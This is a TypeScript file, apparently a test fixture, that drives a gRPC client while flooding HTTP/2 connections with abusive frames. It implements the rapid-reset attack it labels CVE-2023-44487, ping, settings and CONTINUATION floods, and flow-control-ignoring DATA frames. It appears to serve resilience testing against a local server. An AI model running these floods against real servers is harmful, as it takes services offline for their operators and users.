/** Hostile: beside its calls it floods connections with frames of the kind that its argument names. Whatever else it does is right. */
import type { Socket } from 'node:net';
import { startClient } from '../../grpc-client';
import { beside, pour } from '../beside';
import { END_HEADERS, frame } from './frames';

const PREFACE = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const PATH = '/holdfast.feed.v1.Feed/Subscribe';
const literal = (name: string, value: string) =>
  Buffer.concat([Buffer.from([0, name.length]), Buffer.from(name), Buffer.from([value.length]), Buffer.from(value)]);
/** `:method: POST` and `:scheme: http` of the static table (RFC 7541, appendix A), the others as they are. */
const CALL = Buffer.concat([
  Buffer.from([0x83, 0x86]),
  literal(':path', PATH),
  literal(':authority', 'localhost'),
  literal('content-type', 'application/grpc'),
  literal('te', 'trailers'),
]);
const AGAIN = 500;

/** A call that is begun and reset, over and over (CVE-2023-44487). */
function reset(socket: Socket, stream = 1): void {
  if (socket.destroyed) return;
  const pair = (id: number) => [
    frame('headers', END_HEADERS, id, CALL),
    frame('reset', 0, id, Buffer.from([0, 0, 0, 8])),
  ];
  const many = Buffer.concat(Array.from({ length: AGAIN }, (_, i) => pair(stream + 2 * i)).flat());
  socket.write(many, () => setImmediate(reset, socket, stream + 2 * AGAIN));
}

const KINDS: Readonly<Record<string, (socket: Socket) => void>> = {
  reset,
  ping: (socket) =>
    pour(socket, Buffer.concat(Array.from({ length: AGAIN }, () => frame('ping', 0, 0, Buffer.alloc(8))))),
  settings: (socket) => pour(socket, Buffer.concat(Array.from({ length: AGAIN }, () => frame('settings', 0, 0)))),
  continuation: (socket) => {
    socket.write(frame('headers', 0, 1, CALL));
    pour(
      socket,
      frame('continuation', 0, 1, Buffer.concat(Array.from({ length: 400 }, () => literal('x-more', 'header')))),
    );
  },
  message: (socket) => {
    socket.write(frame('headers', END_HEADERS, 1, CALL));
    socket.write(frame('data', 0, 1, Buffer.from([0, 0xff, 0xff, 0xff, 0xff])));
    // Whether or not there is a window for it.
    pour(socket, frame('data', 0, 1, Buffer.alloc(16_000, 'x')));
  },
};

const abuse = KINDS[process.argv[2] ?? 'reset'];
startClient();
beside((socket) => {
  socket.resume().write(Buffer.concat([Buffer.from(PREFACE), frame('settings', 0, 0)]));
  abuse?.(socket);
});
